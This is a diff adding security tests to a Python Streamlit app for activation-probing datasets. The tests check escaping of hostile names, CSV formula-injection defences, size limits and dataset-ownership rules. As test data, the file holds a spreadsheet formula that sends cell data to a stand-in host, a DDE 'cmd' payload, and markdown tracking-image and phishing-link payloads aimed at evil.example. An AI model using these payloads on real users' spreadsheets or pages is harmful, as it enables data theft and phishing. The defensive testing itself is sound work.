@@ -1,5 +1,6 @@
 """Security: path traversal (upload names, workspace ids, link parameters), oversized uploads, no data before login."""
 
+import csv
 import io
 import os
 import re
@@ -7,12 +8,17 @@ import sys
 from pathlib import Path
 
 import numpy as np
+import pandas as pd
 import pytest
 from streamlit import config
 from streamlit.testing.v1 import AppTest
 
 from conftest import ROOT, run_page
 from probing import ProbingInputError, load_activations
+from probing.coherence import coherence_report
+from probing.io import csvsafe
+from probing.io.interop import write_projector_tsv
+from probing.steering import steering_sweep
 from probing.store import Workspace
 from probing.synthetic import make_concept_embeddings
 from test_auth import TOKEN
@@ -85,6 +91,30 @@ def test_link_parameters_cannot_name_a_path(sandbox, value):
     default = at.session_state["dataset"]
     assert default.name == "sentiment" or default.name.startswith("synthetic")
     assert all(p.parts[0] == "workspace" for p in files_under(sandbox))
+
+
+def test_a_crafted_link_cannot_put_an_image_or_link_in_its_warning():
+    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=180)
+    at.query_params["dataset"] = "![](https://evil.example/p.png)[log in](https://evil.example)"
+    at.run()
+    assert not at.exception
+    warning = next(w.value for w in at.warning if "is not a dataset fingerprint" in w.value)
+    assert "evil.example" not in warning and not re.search(r"(?<!\\)(!\[|\]\()", warning), warning
+
+
+def test_an_error_quoting_a_shared_name_shows_it_literally():
+    """A damaged dataset with a hostile name, opened by a colleague's link: the error names it, as text."""
+    aset = hostile_dataset()
+    ws = Workspace()
+    ws.add_dataset(aset)
+    path = ws.root / "datasets" / f"{aset.fingerprint}.safetensors"
+    path.write_bytes(path.read_bytes()[:200])
+    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=180)
+    at.query_params["dataset"] = aset.fingerprint
+    at.run()
+    assert not at.exception
+    texts = [w.value for w in at.warning] + [e.value for e in at.error]
+    assert texts and not [t for t in texts if "evil.example" in t or "://" in t.replace("\\", "")], texts
 
 
 def test_oversized_upload_is_rejected_with_a_message_and_keeps_the_data():
@@ -266,3 +296,196 @@ def test_a_side_labels_path_is_held_to_the_roots_too(data_roots):
                                                          roots=[allowed]))
     assert isinstance(error, ProbingInputError) and "outside the folders" in str(error), error
     assert str(secret.resolve()) not in seen
+FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|x", "@SUM(1+1)",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_csv_cells_a_spreadsheet_would_run_get_a_quote_and_numbers_stay_numbers():
+    df = pd.DataFrame({"text": FORMULAS, "score": [-0.5, 1.0, -3e-7, 2.0, -1.0, 0.0], "n": np.arange(-3, 3),
+                       "as_text": ["-0.5", "+3e-2", "-.5", "x-y", "=1", "plain"],
+                       "category": pd.Categorical(["=a", "b", "=a", "b", "b", "b"]),
+                       "row_break": ["x\r=1+1", "x\n=1+1", "a", "b", "c", "d"]})
+    df["=evil header"] = "ok"
+    rows = list(csv.reader(io.StringIO(csvsafe.to_csv(df), newline="")))
+    header, body = rows[0], rows[1:]
+    assert header == ["text", "score", "n", "as_text", "category", "row_break", "'=evil header"]
+    assert len(body) == 6 and [r[5] for r in body[:2]] == ["x\r=1+1", "x\n=1+1"], "a line break cannot start a row"
+    assert [r[0] for r in body] == ["'" + f for f in FORMULAS]
+    assert [float(r[1]) for r in body] == df["score"].tolist(), "negative floats are numbers, not formulas"
+    assert [int(r[2]) for r in body] == [-3, -2, -1, 0, 1, 2]
+    assert [r[3] for r in body] == ["-0.5", "+3e-2", "-.5", "x-y", "'=1", "plain"]
+    assert [r[4] for r in body] == ["'=a", "b", "'=a", "b", "b", "b"]
+
+
+def test_projector_metadata_tsv_is_safe_in_a_spreadsheet():
+    aset, _ = make_concept_embeddings(n_samples=6, d=3, n_layers=1, seed=0)
+    aset = aset.with_labels(**{"=cmd": np.array(FORMULAS, dtype=object), "score": np.linspace(-1, 1, 6)})
+    _, metadata = write_projector_tsv(aset)
+    rows = [line.split("\t") for line in metadata.decode().splitlines()]
+    column = rows[0].index("'=cmd")
+    assert [r[column].lstrip("'") for r in rows[1:]] == [" =1+1" if f[0] in "\t\r" else f for f in FORMULAS]
+    assert all(r[column].startswith("'") for r, f in zip(rows[1:], FORMULAS) if f[0] not in "\t\r")
+    score = rows[0].index("score")
+    assert [float(r[score]) for r in rows[1:]] == pytest.approx(np.linspace(-1, 1, 6), abs=1e-6)
+
+
+PAYLOAD = "x ![](https://evil.example/p.png) [Session expired: log in](https://evil.example/login)"
+MARKDOWN_KINDS = ("markdown", "caption", "title", "header", "subheader", "success", "info", "warning", "error")
+WIDGET_KINDS = ("checkbox", "toggle", "button", "selectbox", "multiselect", "radio", "slider", "select_slider",
+                "text_input", "text_area", "number_input", "metric", "download_button", "expander", "tab")
+
+
+def hostile_dataset():
+    """A dataset whose name, layer names, label names and text meta all carry a tracking image and a phishing link."""
+    from probing import ActivationSet
+
+    base, _ = make_concept_embeddings(n_samples=120, d=8, n_layers=2, seed=0)
+    labels = {f"label {PAYLOAD}": base.label("label")}
+    meta = pd.DataFrame({"text": [f"{PAYLOAD} {i}" for i in range(base.n_samples)]})
+    return ActivationSet(base.acts, [f"layer 0 {PAYLOAD}", f"layer 1 {PAYLOAD}"], labels, meta, name=PAYLOAD)
+
+
+def rendered_markdown(at) -> list[str]:
+    """Every string the page hands to Streamlit's markdown renderer: text elements, widget labels and help."""
+    texts = [str(e.value) for kind in MARKDOWN_KINDS for e in at.get(kind)]
+    for kind in WIDGET_KINDS:
+        for e in at.get(kind):
+            texts += [str(getattr(e, attr, None) or "") for attr in ("label", "help")]
+    return texts
+
+
+def test_names_teammates_typed_render_literally_on_every_page():
+    aset = hostile_dataset()
+    Workspace().add_dataset(aset, owner="mallory")
+    Workspace().save_result("probe_sweep", PAYLOAD, {"label": "label"}, {"tables": {PAYLOAD: [{"layer": "a"}]}},
+                            owner="mallory", fingerprint=aset.fingerprint)
+    shown_on, leaks = [], {}
+    for page in app_pages():
+        at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=180)
+        at.run()
+        at.session_state["datasets"] = {**at.session_state["datasets"], aset.name: aset}
+        at.session_state["dataset"] = aset
+        at.switch_page(f"dashboard/views/{page}.py")
+        at.run()
+        assert not at.exception, (page, [e.value for e in at.exception])
+        texts = rendered_markdown(at)
+        leaks[page] = [t for t in texts if "evil.example" in t or re.search(r"(?<!\\)(!\[|\]\()", t)
+                       or "://" in t.replace("\\", "")]  # a bare URL becomes a link in the browser
+        if any("evil\\.example" in t for t in texts):
+            shown_on.append(page)
+    assert not any(leaks.values()), {page: texts for page, texts in leaks.items() if texts}
+    assert len(shown_on) >= 8, f"the hostile name is shown (escaped) on only {shown_on}"
+
+
+def test_coherence_report_refuses_more_rows_than_max_rows_before_any_work():
+    D = np.random.default_rng(0).standard_normal((301, 4))
+    with pytest.raises(ProbingInputError, match=r"D has 301 rows, more than the 300 allowed.*45,150 pairs.*subset"):
+        coherence_report(D, max_rows=300, baseline_draws=0)
+    assert coherence_report(D[:300], max_rows=300, baseline_draws=0).k == 300
+
+
+def test_steering_sweep_refuses_too_many_or_too_long_texts_before_loading_the_model():
+    with pytest.raises(ProbingInputError, match=r"Got 201 texts with 201 characters.*at most 200 texts and 40,000 "
+                                                r"characters.*603 runs.*fewer or shorter"):
+        steering_sweep(["a"] * 201, 1, np.zeros(384), [-1, 0, 1], readout=None, max_texts=200, max_chars=40_000)
+    with pytest.raises(ProbingInputError, match=r"Got 1 texts with 25,000,000 characters.*40,000 characters"):
+        steering_sweep(["x" * 25_000_000], 1, np.zeros(384), [0], readout=None, max_texts=200, max_chars=40_000)
+
+
+def test_coherence_page_refuses_an_uploaded_matrix_with_too_many_rows():
+    at = run_page("coherence")
+    at.radio(key="coh_source").set_value("Upload a matrix").run()
+    big = io.BytesIO()
+    np.save(big, np.random.default_rng(0).standard_normal((20_001, 2)).astype(np.float32))
+    at.file_uploader(key="coh_upload").set_value(("W_dec.npy", big.getvalue(), "application/octet-stream")).run()
+    assert not at.exception
+    assert any("D has 20,001 rows, more than the 20,000 allowed" in e.value for e in at.error), [e.value for e in at.error]
+    assert not any(m.label == "mutual coherence μ" for m in at.metric)
+
+
+def test_one_heavy_computation_per_session(monkeypatch):
+    """While the session's first computation still runs, a second run says so and starts nothing."""
+    from dashboard import widgets
+
+    class AnotherRunHoldsIt(widgets.Busy):
+        def claim(self, session, thread):
+            return False
+
+    at = run_page("coherence")
+    at.radio(key="coh_source").set_value("Random vectors").run()
+    monkeypatch.setattr(widgets, "BUSY_WAIT_S", 0.2)
+    monkeypatch.setattr(widgets, "BUSY", AnotherRunHoldsIt())
+    at.number_input(key="coh_rand_seed").set_value(4242).run()  # a set no other test has computed (and cached)
+    assert not at.exception
+    assert any("still running" in w.value for w in at.warning), [w.value for w in at.warning]
+    assert not any(m.label == "mutual coherence μ" for m in at.metric), "nothing was computed"
+    monkeypatch.setattr(widgets, "BUSY", widgets.Busy())
+    at.run()
+    assert not at.warning and any(m.label == "mutual coherence μ" for m in at.metric)
+
+
+def test_busy_lets_one_thread_per_session_in_and_nests():
+    from dashboard.widgets import Busy
+
+    busy = Busy()
+    assert busy.claim("s", 1) and busy.claim("s", 1), "the same run may nest progress bars"
+    assert not busy.claim("s", 2), "another run of the same session waits"
+    assert busy.claim("t", 2), "other sessions are not affected"
+    busy.release("s")
+    assert not busy.claim("s", 2)
+    busy.release("s")
+    assert busy.claim("s", 2)
+
+
+@pytest.mark.parametrize("user", [None, "bob"])
+def test_only_the_owner_may_rename_or_delete_a_dataset_on_the_data_page(monkeypatch, user):
+    from test_auth import TOKEN
+
+    if user is not None:
+        monkeypatch.setenv("PROBING_ACCESS_TOKEN", TOKEN)
+    aset, _ = make_concept_embeddings(n_samples=40, d=4, n_layers=1, seed=3, name="ada's data")
+    Workspace().add_dataset(aset, owner="ada")
+
+    def setup(at):
+        if user is not None:
+            at.session_state["auth_user"] = user
+
+    at = run_page("data", setup=setup)
+    assert at.button(key="ws_rename").disabled and at.button(key="ws_delete").disabled
+    assert at.checkbox(key="ws_confirm").disabled and at.text_input(key=f"ws_new_name_{aset.fingerprint}").disabled
+    who = f"you are **{user}**" if user else "you are not logged in"
+    assert any(f"Only **ada** can rename or delete it; {who}" in c.value for c in at.caption)
+
+
+def test_the_owner_may_rename_and_delete_their_dataset(monkeypatch):
+    from test_auth import TOKEN
+
+    monkeypatch.setenv("PROBING_ACCESS_TOKEN", TOKEN)
+    aset, _ = make_concept_embeddings(n_samples=40, d=4, n_layers=1, seed=3, name="ada's data")
+    Workspace().add_dataset(aset, owner="ada")
+    at = run_page("data", setup=lambda at: at.session_state.__setitem__("auth_user", "ada"))
+    assert not at.button(key="ws_rename").disabled and not at.checkbox(key="ws_confirm").disabled
+    assert not any("can rename or delete it" in c.value for c in at.caption)
+
+
+@pytest.mark.browser
+def test_a_hostile_name_opened_from_a_share_link_renders_as_text_in_the_browser(browser, tmp_path):
+    """What the issue saw: a colleague opens the dataset by link; no tracking image, no phishing link, the name as text."""
+    from conftest import wait_for_app
+    from dashboard.local_server import served_app
+    from dashboard.widgets import WORD_JOINER
+
+    aset = hostile_dataset()
+    Workspace(tmp_path / "ws").add_dataset(aset, owner=None)
+    with served_app({"PROBING_WORKSPACE": str(tmp_path / "ws"), "PROBING_ACCESS_TOKEN": ""}) as (url, _):
+        context = browser.new_context()
+        page = context.new_page()
+        try:
+            for path in ("data", "probes", "pca"):
+                page.goto(f"{url}/{path}?dataset={aset.fingerprint}")
+                wait_for_app(page)
+                shown = page.inner_text("[data-testid='stApp']").replace(WORD_JOINER, "")
+                assert PAYLOAD in shown, f"the name is shown as typed on {path}"
+                assert page.locator("img[src*='evil'], a[href*='evil']").count() == 0, path
+        finally:
+            context.close()
